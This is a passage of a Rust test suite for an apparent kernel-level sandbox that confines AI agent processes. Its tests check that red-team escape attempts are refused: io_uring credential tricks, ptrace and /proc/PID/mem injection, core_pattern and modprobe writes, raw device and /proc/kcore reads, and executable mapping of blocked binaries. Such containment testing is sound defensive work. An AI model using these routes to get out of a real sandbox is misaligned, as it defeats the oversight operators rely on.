        &mut k,
        &fx,
        "12 setsockopt(SO_MARK)",
        &Attempt::SetSockOpt {
            family: libc::AF_INET,
            ty: libc::SOCK_STREAM,
            level: libc::SOL_SOCKET,
            name: libc::SO_MARK,
            value: 51820i32.to_ne_bytes().to_vec(),
        },
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::PACKET_MARK);
    deny_cap(
        &mut k,
        &fx,
        "12 sethostname",
        &Attempt::Sethostname { name: hostname() },
        caps::SYS_ADMIN,
        Control::Succeeds,
    );
    // Files without a name for the rules, devices, kernel memory.
    deny_cap(
        &mut k,
        &fx,
        "12 open_by_handle_at",
        &Attempt::OpenByHandle {
            path: cstr(&fx.p("public.txt")),
            mount_dir: c"/tmp".into(),
        },
        caps::DAC_READ_SEARCH,
        Control::Succeeds,
    );
    let node = fx.p("tmp/disk");
    deny_cap(
        &mut k,
        &fx,
        "12 mknod a block device",
        &Attempt::Mknod {
            path: cstr(&node),
            mode: libc::S_IFBLK | 0o600,
            dev: libc::makedev(259, 0),
        },
        caps::MKNOD,
        Control::Succeeds,
    );
    let _ = std::fs::remove_file(&node);
    for (case, dev) in [
        ("12 open an existing block device", "/dev/nvme0n1"),
        (
            "12 open a disk's raw character view (NVMe generic)",
            "/dev/ng0n1",
        ),
    ] {
        assert!(
            Path::new(dev).exists(),
            "{dev}: the VM's scratch disk is missing"
        );
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::open(Path::new(dev), libc::O_RDONLY),
            Kind::File,
            Control::Succeeds,
        );
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        assert_ne!(ev.detail & FILE_DETAIL_RAW_DEVICE, 0, "{case}");
        assert_eq!(text(&ev.path), dev, "{case}");
    }
    // Devices that reach past the rules otherwise: refused at the open, before the driver's
    // own (so whether its module is loaded does not matter). Nodes made outside the agent.
    for (case, name, major, minor) in [
        (
            "12 attach to an existing tun or tap (/dev/net/tun)",
            "tun",
            10,
            200,
        ),
        ("12 a made-up keyboard (/dev/uinput)", "uinput", 10, 223),
        ("12 a made-up HID device (/dev/uhid)", "uhid", 10, 239),
        (
            "R21 a character device served by the agent (/dev/cuse)",
            "cuse",
            10,
            203,
        ),
        (
            "12 a guest's vsock to the host (/dev/vhost-vsock)",
            "vhost-vsock",
            10,
            241,
        ),
        (
            "12 every key typed on the node (/dev/input/event0)",
            "event0",
            13,
            64,
        ),
        ("12 another terminal's screen (/dev/vcs1)", "vcs1", 7, 1),
        ("12 frames onto a PPP unit (/dev/ppp)", "ppp", 108, 0),
        (
            "12 a USB device driven from user space (/dev/bus/usb/001/001)",
            "usb",
            189,
            0,
        ),
        ("12 an I2C bus (/dev/i2c-0)", "i2c-0", 89, 0),
        ("12 physical memory (/dev/mem)", "mem", 1, 1),
        ("12 I/O ports (/dev/port)", "port", 1, 4),
        ("12 a processor's MSRs (/dev/cpu/0/msr)", "msr", 202, 0),
        ("12 the node's serial console (/dev/ttyS0)", "ttyS0", 4, 64),
        ("12 a virtual console (/dev/tty1)", "tty1", 4, 1),
        ("12 the system console (/dev/console)", "console", 5, 1),
        (
            "R26 lines into the kernel's log (/dev/ttyprintk)",
            "ttyprintk",
            5,
            3,
        ),
        (
            "R26 loop devices added and removed (/dev/loop-control)",
            "loop-control",
            10,
            237,
        ),
    ] {
        let node = fx.p(&format!("tmp/{name}"));
        let _ = std::fs::remove_file(&node);
        // SAFETY: plain mknod(2) of a path we own.
        let made = unsafe {
            libc::mknod(
                cstr(&node).as_ptr(),
                libc::S_IFCHR | 0o666,
                libc::makedev(major, minor),
            )
        };
        assert_eq!(made, 0, "{case}: mknod outside the agent");
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::open(&node, libc::O_RDWR),
            Kind::File,
            Control::NotEperm,
        );
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        assert_ne!(ev.detail & FILE_DETAIL_RAW_DEVICE, 0, "{case}");
        let _ = std::fs::remove_file(&node);
    }
    // Real-time scheduling, which cgroup v2's CPU limits do not hold: a busy SCHED_FIFO
    // thread per CPU starves the node, the daemon among it (red team round 8).
    deny_cap(
        &mut k,
        &fx,
        "12 SCHED_FIFO for itself",
        &Attempt::SchedFifo,
        caps::SYS_NICE,
        Control::Succeeds,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 read /proc/kcore",
        &Attempt::open(Path::new("/proc/kcore"), libc::O_RDONLY),
        caps::SYS_RAWIO,
        Control::Succeeds,
    );
    // Kernel code and the kernel itself.
    deny_cap(
        &mut k,
        &fx,
        "12 init_module",
        &Attempt::InitModule,
        caps::SYS_MODULE,
        Control::NotEperm,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 finit_module",
        &Attempt::FinitModule {
            path: cstr(&fx.p("public.txt")),
        },
        caps::SYS_MODULE,
        Control::NotEperm,
    );
    deny_cap(
        &mut k,
        &fx,
        "12 kexec_load",
        &Attempt::KexecLoad,
        caps::SYS_BOOT,
        Control::NotEperm,
    );
    // io_uring requests under a registered personality: credentials that need not be the
    // task's own when the capability hook looks.
    // (The helper's own comm, not `agent`: the deny helper's comm check does not apply.)
    let case = "12 io_uring request under a registered personality";
    let uring = Attempt::exec_args(Path::new(HELPER), &["redteam-helper", "uring-personality"]);
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &uring);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Capability), "{case}");
    assert_eq!(ev.detail, 255, "{case}: the io_uring personality marker");
    assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}");
    println!("redteam: denied {case}");
    let (pid, outcome) = run_in(Some(&fx.outsider.path), "outsider", &uring);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    assert!(k.try_event_for(pid, Duration::from_millis(100)).is_none());
    println!("redteam: control {case}");
    // An io_uring polling thread submits whoever's requests reach its ring, as the process
    // that made it: refused to agents (red team round 10: a sandboxed child's requests ran as
    // its unmarked parent's).
    k.require("uring_sqpoll");
    let case = "R10 an io_uring with a polling kernel thread (IORING_SETUP_SQPOLL)";
    let sqpoll = Attempt::exec_args(Path::new(HELPER), &["redteam-helper", "uring-sqpoll"]);
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &sqpoll);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Capability), "{case}");
    assert_eq!(ev.detail, caps::URING_SQPOLL, "{case}");
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &sqpoll);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    // An io_uring worker runs a request under the credentials its submitter had when it queued
    // it, and has its own from when it was made: after any change of the submitter's
    // credentials (an unprivileged prctl(PR_SET_KEEPCAPS) makes new ones) the two differ, as
    // they do when a subsystem borrows credentials (red team round 7). The helper opens
    // /dev/null in a worker, changes its credentials, opens /dev/null again there (it must
    // work: io_uring stays usable) and then PATH.
    let case = "12 open /proc/kcore from an io_uring worker after a credential change";
    let kcore = Attempt::exec_args(
        Path::new(HELPER),
        &["redteam-helper", "uring-after-keepcaps", "/proc/kcore"],
    );
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &kcore);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Capability), "{case}");
    assert_eq!(ev.detail, caps::SYS_RAWIO as u8, "{case}");
    println!("redteam: denied {case}");
    let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &kcore);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    // A request linked behind one sent to a worker keeps the credentials the submitter had
    // then; when the head completes by a poll, the linked request runs in the submitter itself
    // (not a worker) under them, after the submitter changed its own (red team round 24). Here
    // an open of /dev/kmsg, which with dmesg_restrict needs CAP_SYSLOG.
    let restrict = Path::new("/proc/sys/kernel/dmesg_restrict");
    let before = std::fs::read_to_string(restrict).expect("dmesg_restrict");
    std::fs::write(restrict, "1").expect("set dmesg_restrict");
    let case =
        "12 open /dev/kmsg linked behind an io_uring worker's poll after a credential change";
    let kmsg = Attempt::exec_args(
        Path::new(HELPER),
        &["redteam-helper", "uring-link-after-keepcaps", "/dev/kmsg"],
    );
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &kmsg);
    let (_, control) = run_in(Some(&fx.outsider.path), "outsider", &kmsg);
    std::fs::write(restrict, before.trim()).expect("restore dmesg_restrict");
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
    let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
    assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Capability), "{case}");
    assert_eq!(ev.detail, caps::SYSLOG as u8, "{case}");
    println!("redteam: denied {case}");
    assert_eq!(control, Outcome::Exited(0), "{case}: control");
    println!("redteam: control {case}");
    // A session keyring handed to a parent outside the agent (red team round 26): the parent
    // would look keys up in a keyring the agent controls. Refused to agents where the kernel
    // makes the parent's blank credentials (whoever the parent: it may change under the call),
    // which fails the call with ENOMEM.
    k.require("cred_alloc_blank");
    let case = "R26 a session keyring handed to a parent outside the agent";
    for (who, cgroup) in [("agent", &fx.agent.path), ("outsider", &fx.outsider.path)] {
        let procs = cgroup.join("cgroup.procs");
        let attempt = Attempt::exec_args(
            Path::new(HELPER),
            &[
                "redteam-helper",
                "session-to-parent",
                procs.to_str().unwrap(),
            ],
        );
        println!("redteam: tried {case} ({who})");
        let (_, outcome) = run_in(None, "keyparent", &attempt);
        if who == "agent" {
            assert_eq!(outcome, Outcome::Errno(libc::ENOMEM), "{case}");
            let ev = k.event_where(|e| {
                Kind::from_u8(e.kind) == Some(Kind::Guard)
                    && e.detail == governance_common::guard::SESSION_KEYRING
                    && e.flags & flags::DENIED != 0
            });
            assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}");
            println!("redteam: denied {case}");
        } else {
            assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
            println!("redteam: control {case}");
        }
    }
    // The checks above are the agent's because they run under credentials an agent task had;
    // overlayfs in the same task acts under its mounter's, and is not refused: an agent with an
    // io_uring context, after a credential change, sees an opaque directory of an overlay
    // (its `trusted.overlay.opaque` read needs CAP_SYS_ADMIN) and copies a lower file up
    // (which sets `trusted.overlay.*` on the upper copy). On a fresh mount each time: the
    // first lookup decides what the dentry cache keeps.
    let case =
        "an overlay's opaque directory and copy-up in an agent task with an io_uring context";
    for (who, cgroup) in [("agent", &fx.agent.path), ("outsider", &fx.outsider.path)] {
        let base = mount_point(&fx, &format!("overlay-{who}"));
        mount_tmpfs(&base);
        for d in ["lower/d", "upper/d", "work", "merged"] {
            std::fs::create_dir_all(base.join(d)).unwrap();
        }
        std::fs::write(base.join("lower/d/hidden"), "lower").unwrap();
        std::fs::write(base.join("lower/file"), "lower").unwrap();
        let upper_d = cstr(&base.join("upper/d"));
        // SAFETY: valid C strings and a one-byte value.
        let r = unsafe {
            libc::setxattr(
                upper_d.as_ptr(),
                c"trusted.overlay.opaque".as_ptr(),
                b"y".as_ptr().cast(),
                1,
                0,
            )
        };
        assert_eq!(r, 0, "{case}: mark the upper directory opaque");
        let options = cstr(Path::new(&format!(
            "lowerdir={0}/lower,upperdir={0}/upper,workdir={0}/work",
            base.display()
        )));
        let merged = base.join("merged");
        let target = cstr(&merged);
        // SAFETY: valid C strings.
        let r = unsafe {
            libc::mount(
                c"overlay".as_ptr(),
                target.as_ptr(),
                c"overlay".as_ptr(),
                0,
                options.as_ptr().cast(),
            )
        };
        assert_eq!(
            r,
            0,
            "{case}: mount the overlay ({})",
            std::io::Error::last_os_error()
        );
        let d = merged.join("d");
        let file = merged.join("file");
        let attempt = Attempt::exec_args(
            Path::new(HELPER),
            &[
                "redteam-helper",
                "uring-overlay",
                d.to_str().unwrap(),
                "hidden",
                file.to_str().unwrap(),
            ],
        );
        println!("redteam: tried {case} ({who})");
        let (pid, outcome) = run_in(Some(cgroup), who, &attempt);
        unmount(&merged);
        unmount(&base);
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "{case} ({who}): 3 = the lower entry showed through the opaque directory, 5 = the copy-up failed"
        );
        assert!(
            k.try_event_where(Duration::from_millis(100), |e| e.tgid == pid
                && e.flags & flags::DENIED != 0)
                .is_none(),
            "{case} ({who}): nothing refused"
        );
        println!("redteam: allowed {case} ({who})");
    }
}

/// An io_uring ring made outside every agent with a polling thread (`IORING_SETUP_SQPOLL`)
/// submits what a process of an agent writes into its shared memory as the ring's maker, whom
/// every hook takes for a process outside (red team round 36: a socket, connect, send and
/// receive to a server the agent's `network: block` refuses, and no event). `file_receive`
/// refuses every ring a process of an agent would receive from another process: here from its
/// seccomp supervisor outside (`SECCOMP_IOCTL_NOTIF_ADDFD`, which installs it in the agent's own
/// task). Over `SCM_RIGHTS` the kernel refuses to send a ring at all (`EINVAL`, since Linux 6.7
/// and the stable kernels it went back to: both VM kernels). Controls: the same outside the
/// agent (the ring arrives), and a pipe passed either way into the agent (it arrives).
#[test]
fn io_uring_rings_made_outside_are_refused_to_agents() {
    use governance_common::guard;
    require_root();
    let fx = Fixture::new("uring-pass");
    let mut k = fx.load("");
    k.require("file_receive");
    let pass = |how: &str, what: &str, cgroup: &Path| {
        let procs = cgroup.join("cgroup.procs");
        let attempt = Attempt::exec_args(
            Path::new(HELPER),
            &[
                "redteam-helper",
                "pass-fd",
                how,
                what,
                procs.to_str().unwrap(),
            ],
        );
        run_in(None, "uring-pass", &attempt).1
    };
    let ring_event = |k: &mut Loaded| {
        k.try_event_where(Duration::from_millis(200), |e| {
            e.kind == Kind::Guard as u8 && e.detail == guard::URING_RING
        })
    };
    let case = "R36 an SQPOLL ring made outside, put in an agent process by its seccomp supervisor";
    println!("redteam: tried {case}");
    assert_eq!(
        pass("addfd", "ring", &fx.agent.path),
        Outcome::Errno(libc::EPERM),
        "{case}"
    );
    let ev = k.event_where(|e| {
        e.kind == Kind::Guard as u8 && e.detail == guard::URING_RING && e.flags & flags::DENIED != 0
    });
    assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
    assert_eq!(ev.generation, k.generation, "{case}: event generation");
    println!("redteam: denied {case}");
    assert_eq!(
        pass("addfd", "ring", &fx.outsider.path),
        Outcome::Exited(0),
        "{case}: control outside"
    );
    assert!(ring_event(&mut k).is_none(), "{case}: no event outside");
    assert_eq!(
        pass("addfd", "pipe", &fx.agent.path),
        Outcome::Exited(0),
        "{case}: a pipe the same way into the agent"
    );
    assert!(ring_event(&mut k).is_none(), "{case}: no event for a pipe");
    println!("redteam: control {case}");
    let case = "R36 an SQPOLL ring made outside, sent to an agent process over SCM_RIGHTS";
    println!("redteam: tried {case}");
    for cgroup in [&fx.agent.path, &fx.outsider.path] {
        assert_eq!(
            pass("scm", "ring", cgroup),
            Outcome::Errno(libc::EINVAL),
            "{case}: the kernel's own refusal to send a ring ({})",
            cgroup.display()
        );
    }
    assert!(ring_event(&mut k).is_none(), "{case}: nothing received");
    assert_eq!(
        pass("scm", "pipe", &fx.agent.path),
        Outcome::Exited(0),
        "{case}: a pipe over SCM_RIGHTS into the agent"
    );
    println!("redteam: control {case}");
}

/// Class 2: leaving the agent's subtree. A child started in another cgroup, a task moved
/// through cgroup.threads, new namespaces by clone, and code run in a process outside the
/// agent through ptrace are refused; moving within the agent stays possible (see
/// `escape_and_self_protection_cases`).
#[test]
fn leaving_the_subtree_is_refused() {
    require_root();
    let fx = Fixture::new("leave");
    let mut k = fx.load("");
    for hook in ROOT_HOOKS {
        k.require(hook);
    }
    const CLONE_INTO_CGROUP: u64 = 0x2_0000_0000;
    let ev = deny(
        &mut k,
        &fx,
        "2 clone3(CLONE_INTO_CGROUP) into a cgroup outside",
        &Attempt::Clone3 {
            flags: CLONE_INTO_CGROUP,
            cgroup: Some(cstr(&fx.outsider.path)),
        },
        Kind::Clone,
        Control::Succeeds,
    );
    assert_eq!(ev.object, CLONE_INTO_CGROUP);
    for (case, flag) in [
        ("2 clone3 with a new mount namespace", libc::CLONE_NEWNS),
        (
            "2 clone3 with a new cgroup namespace",
            libc::CLONE_NEWCGROUP,
        ),
        ("2 clone3 with a new network namespace", libc::CLONE_NEWNET),
        ("2 clone3 with a new pid namespace", libc::CLONE_NEWPID),
    ] {
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::Clone3 {
                flags: flag as u64,
                cgroup: None,
            },
            Kind::Clone,
            Control::Succeeds,
        );
        assert_eq!(ev.object, flag as u64, "{case}");
    }
    deny(
        &mut k,
        &fx,
        "2 write a tid into a cgroup.threads outside",
        &Attempt::write(&fx.outsider.path.join("cgroup.threads"), "0"),
        Kind::File,
        Control::NotEperm,
    );
    // The kernel's usermode helpers run a program of the writer's choosing as root, in the
    // root cgroup: root writes them with no capability. (Each is written back unchanged.)
    // Refused by the object (a procfs file of no process), before the open's built-in path
    // rule: on the node's /proc, and on a second procfs, whose names no path rule holds (a
    // build chroot's; or one an agent mounts with fsopen in a PID namespace of its own and
    // reaches through a chroot, never attaching it: red team round 27).
    let second = fx.dir.join("proc2");
    std::fs::create_dir_all(&second).unwrap();
    mount_fs(c"proc", &second);
    let second_pattern = second.join("sys/kernel/core_pattern");
    for (case, setting) in [
        (
            "2 set kernel.core_pattern",
            Path::new("/proc/sys/kernel/core_pattern"),
        ),
        (
            "2 set kernel.modprobe",
            Path::new("/proc/sys/kernel/modprobe"),
        ),
        (
            "R27 set kernel.core_pattern through a second procfs",
            &*second_pattern,
        ),
    ] {
        let value = std::fs::read_to_string(setting).unwrap();
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::write(setting, &value),
            Kind::Guard,
            Control::Succeeds,
        );
        assert_eq!(ev.detail, governance_common::guard::KERNEL_PROC, "{case}");
    }
    unmount(&second);
    // sysfs, by the object as well (a network namespace's own sysfs shows the node's
    // settings). Opened for writing only: nothing is written, outside either.
    let ev = deny(
        &mut k,
        &fx,
        "R27 open a sysfs setting to write",
        &Attempt::open(
            Path::new("/sys/kernel/mm/transparent_hugepage/enabled"),
            libc::O_WRONLY,
        ),
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::KERNEL_PROC);
    // A filesystem mounted below /sys (tracefs here; efivarfs, configfs, pstore alike) is a
    // device of its own, whose names no open decides: a new entry there, or a removal (a
    // firmware boot variable on efivarfs), is decided by its identity entries (red team round
    // 20: it had none). The VM mounts tracefs at boot, before the load.
    let instance = Path::new("/sys/kernel/tracing/instances/gov-rt20");
    let ev = deny(
        &mut k,
        &fx,
        "R20 a tracing instance made on tracefs below /sys",
        &Attempt::Mkdir {
            path: cstr(instance),
        },
        Kind::Link,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::LINK_OP_MKDIR);
    std::fs::remove_dir(instance).expect("the control's tracing instance removed");
    // The kernel's log: a line written there reaches the node's consoles, escape sequences and
    // all, with no capability asked (red team round 21).
    assert!(Path::new("/dev/kmsg").exists(), "the VM has no /dev/kmsg");
    let ev = deny(
        &mut k,
        &fx,
        "R21 open /dev/kmsg to write",
        &Attempt::open(Path::new("/dev/kmsg"), libc::O_WRONLY),
        Kind::File,
        Control::Succeeds,
    );
    assert_eq!(
        governance_common::id_number(ev.rule_id),
        0,
        "/dev/kmsg: a built-in path rule"
    );
    // procfs's other settings, files of no process outside /proc/sys, which root opens for
    // writing with no capability (red team round 7): a PCI device's configuration space (its
    // command register cleared stops the node's disk or network controller), the interrupts'
    // affinity, the SysRq trigger. Opened for writing only: nothing is written, outside either.
    let pci = std::fs::read_dir("/proc/bus/pci/00")
        .ok()
        .and_then(|mut d| d.next())
        .and_then(|e| e.ok())
        .map(|e| e.path());
    for (case, setting) in [
        (
            "2 open /proc/irq/default_smp_affinity to write",
            Some(PathBuf::from("/proc/irq/default_smp_affinity")),
        ),
        (
            "2 open /proc/sysrq-trigger to write",
            Some(PathBuf::from("/proc/sysrq-trigger")),
        ),
        (
            "2 open a PCI device's /proc/bus/pci configuration to write",
            pci,
        ),
    ] {
        let setting = setting.unwrap_or_else(|| panic!("{case}: no such file in this VM"));
        let ev = deny(
            &mut k,
            &fx,
            case,
            &Attempt::open(&setting, libc::O_WRONLY),
            Kind::Guard,
            Control::Succeeds,
        );
        assert_eq!(ev.detail, governance_common::guard::KERNEL_PROC, "{case}");
    }
    // The agent's own /proc files stay writable.
    allow(
        &mut k,
        &fx,
        "2 its own /proc/self/comm",
        &Attempt::write(Path::new("/proc/self/comm"), "renamed"),
    );
    // A root process outside, with the same capabilities as a root agent: attaching needs no
    // capability, and code injected there would run outside the agent.
    let target = outside_process(&["sleep", "120"]);
    let pid = target.id() as i32;
    let ev = deny(
        &mut k,
        &fx,
        "2 ptrace a process outside the agent",
        &Attempt::PtraceSeize { pid },
        Kind::Ptrace,
        Control::Succeeds,
    );
    assert_eq!(ev.object, pid as u64);
    // /proc/PID/mem: read, the kernel turns the refused attach into EACCES; written, the
    // write permission on another process's /proc file is refused first (EPERM).
    for (case, flags, errno, kind) in [
        (
            "2 open /proc/PID/mem of a process outside the agent",
            libc::O_RDONLY,
            libc::EACCES,
            Kind::Ptrace,
        ),
        (
            "2 open /proc/PID/mem of a process outside the agent, to write",
            libc::O_RDWR,
            libc::EPERM,
            Kind::Guard,
        ),
    ] {
        let mem = Attempt::open(&PathBuf::from(format!("/proc/{pid}/mem")), flags);
        println!("redteam: tried {case}");
        let (child, outcome) = run_in(Some(&fx.agent.path), "agent", &mem);
        assert_eq!(outcome, Outcome::Errno(errno), "{case}");
        let ev = k.event_where(|e| e.tgid == child && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(kind), "{case}");
        assert_eq!(ev.object, pid as u64, "{case}");
        println!("redteam: denied {case}");
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &mem);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
        println!("redteam: control {case}");
    }
}

/// Class 3: code that runs without an exec of it. A blocked binary's code mapped executable
/// (mmap, mprotect, through ld.so), a copy of it or code in a memfd mapped under an
/// allowlist: refused, with the event.
#[test]
fn code_mapped_executable_is_decided() {
    use governance_common::{EXEC_DETAIL_LOADER, exec_map};
    require_root();
    let fx = Fixture::new("mapping");
    std::fs::copy(HELPER, fx.p("blocked/helper")).unwrap();
    let extra = format!(
        "\x20 - {{ id: no-helper-copy, exec: {{ path: {} }}, verdict: block, reason: a blocked dynamic program }}\n",
        fx.p("blocked/helper").display()
    );
    let mut k = fx.load(&extra);
    for hook in ROOT_HOOKS {
        k.require(hook);
    }
    let blocked = fx.p("blocked/true");
    let ev = deny(
        &mut k,
        &fx,
        "3 mmap PROT_EXEC of a blocked binary",
        &Attempt::MapExec {
            path: cstr(&blocked),
            mprotect: false,
        },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Rule));
    assert_eq!(ev.rule_id, k.rule(4));
    assert_eq!(ev.detail, exec_map::MMAP);
    assert_eq!(text(&ev.path), blocked.to_str().unwrap());
    let ev = deny(
        &mut k,
        &fx,
        "3 mprotect a blocked binary's mapping to PROT_EXEC",
        &Attempt::MapExec {
            path: cstr(&blocked),
            mprotect: true,
        },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.rule_id, k.rule(4));
    assert_eq!(ev.detail, exec_map::MPROTECT);
    let ev = deny(
        &mut k,
        &fx,
        "3 a copy of a blocked binary mapped executable under an allowlist",
        &Attempt::CopyMapExec {
            src: cstr(&blocked),
            dst: cstr(&fx.p("tmp/copy")),
            unlink_first: false,
        },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
    assert_eq!(ev.port, exec_map::WRITTEN);
    // Deleted but still open: the file lives on, and so does the memory of who wrote it.
    let ev = deny(
        &mut k,
        &fx,
        "3 a copy of a blocked binary, unlinked, mapped through its open fd",
        &Attempt::CopyMapExec {
            src: cstr(&blocked),
            dst: cstr(&fx.p("tmp/copy-unlinked")),
            unlink_first: true,
        },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITTEN);
    // Bookkeeping: a written file is remembered by identity until the inode it was remembered
    // for is destroyed with no link left. Another inode with the same identity (btrfs
    // subvolumes share a device and number their inodes each from its own counter; red team
    // round 18: such an inode deleted removed the entry of an agent's file) never removes it:
    // simulated here by an entry whose inode the test rewrites, its file then deleted.
    let mut written: aya::maps::HashMap<_, governance_common::ExecKey, governance_common::Written> =
        aya::maps::HashMap::try_from(aya::maps::Map::HashMap(
            aya::maps::MapData::from_pin(k.pins.join("maps/WRITTEN")).unwrap(),
        ))
        .unwrap();
    let remembered = |name: &str| {
        let note = fx.p(name);
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::open(&note, libc::O_WRONLY | libc::O_CREAT),
        );
        assert_eq!(outcome, Outcome::Exited(0));
        let (dev, ino) = governance::kernel::exec_identity(&note).unwrap();
        (note, governance_common::ExecKey { class: 0, dev, ino })
    };
    let (note, key) = remembered("tmp/note");
    let (other, other_key) = remembered("tmp/note-of-another-inode");
    let entry = written.get(&key, 0).unwrap();
    assert_eq!(entry.owner, fx.agent.id(), "remembered, with its writer");
    assert_ne!(entry.inode, 0, "remembered with its inode");
    let mut foreign = written.get(&other_key, 0).unwrap();
    foreign.inode ^= 0x40;
    written.insert(other_key, foreign, 0).unwrap();
    std::fs::remove_file(&other).unwrap();
    std::fs::remove_file(&note).unwrap();
    governance_tests::wait_until(
        "the deleted file to be forgotten",
        Duration::from_secs(10),
        || written.get(&key, 0).is_err(),
    );
    assert_eq!(
        written.get(&other_key, 0).ok(),
        Some(foreign),
        "an entry is not removed by another inode's deletion"
    );
    written.remove(&other_key).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "3 code in a memfd mapped executable under an allowlist",
        &Attempt::MemfdMapExec {
            src: cstr(&blocked),
        },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::NAMELESS);
    // System V shared memory attached executable (`shmat(SHM_EXEC)`): a file of the kernel's
    // internal shm mount, nameless as a memfd (red team round 24: the threat model named it,
    // no test tried it). Attached without SHM_EXEC, it works.
    let ev = deny(
        &mut k,
        &fx,
        "3 System V shared memory attached executable under an allowlist",
        &Attempt::ShmExec { exec: true },
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::NAMELESS);
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::ShmExec { exec: false },
    );
    assert_eq!(outcome, Outcome::Exited(0), "shmat without SHM_EXEC");
    // Red team round 17 (J1): the table of written files is a history kept in memory; after a
    // reboot, on another node of shared storage, or where inode numbers are not kept (btrfs
    // subvolumes, vfat), an agent's code is in a file the table never saw. What decides is what
    // the file and the process are now. A file the table never saw stands in for all of those:
    // written by the test, outside every agent.
    let planted = fx.p("tmp/planted.so");
    std::fs::copy(BUSYBOX, &planted).unwrap();
    std::fs::set_permissions(
        &planted,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let runs = |k: &mut Loaded, case: &str, attempt: &Attempt| {
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
        assert_eq!(outcome, Outcome::Exited(0), "{case}: in the agent");
        assert!(
            k.try_event_where(Duration::from_millis(200), |e| e.tgid == pid
                && e.flags & flags::DENIED != 0)
                .is_none(),
            "{case}: nothing refused"
        );
        println!("redteam: control {case}");
    };
    let map_as = |path: &Path, mprotect: bool, uid: Option<u32>| match uid {
        Some(uid) => Attempt::MapExecAs {
            path: cstr(path),
            mprotect,
            uid,
        },
        None => Attempt::MapExec {
            path: cstr(path),
            mprotect,
        },
    };
    // A root process may write root's files: a root-owned file it may write by its policy is
    // refused, by mmap and by mprotect.
    for mprotect in [false, true] {
        let ev = deny(
            &mut k,
            &fx,
            &format!(
                "J1 a root agent maps executable a root-owned file it may write, unknown to the table of written files (mprotect: {mprotect})"
            ),
            &map_as(&planted, mprotect, None),
            Kind::ExecMap,
            Control::Succeeds,
        );
        assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
        assert_eq!(ev.port, exec_map::WRITABLE);
    }
    // A process that cannot write root's files (uid 65534, no capabilities) maps a file only
    // root could have changed.
    runs(
        &mut k,
        "J1 a process that cannot write root's files maps a root-owned, read-only file",
        &map_as(&planted, false, Some(65534)),
    );
    runs(
        &mut k,
        "J1 the same by mprotect",
        &map_as(&planted, true, Some(65534)),
    );
    // The same process, a file it owns (it could have written it, or chmod it to write it),
    // and a root-owned file anyone may write.
    let owned = fx.p("tmp/owned.so");
    std::fs::copy(BUSYBOX, &owned).unwrap();
    std::fs::set_permissions(&owned, std::os::unix::fs::PermissionsExt::from_mode(0o555)).unwrap();
    std::os::unix::fs::chown(&owned, Some(65534), Some(65534)).unwrap();
    let open_to_all = fx.p("tmp/open-to-all.so");
    std::fs::copy(BUSYBOX, &open_to_all).unwrap();
    std::fs::set_permissions(
        &open_to_all,
        std::os::unix::fs::PermissionsExt::from_mode(0o646),
    )
    .unwrap();
    for (what, file) in [
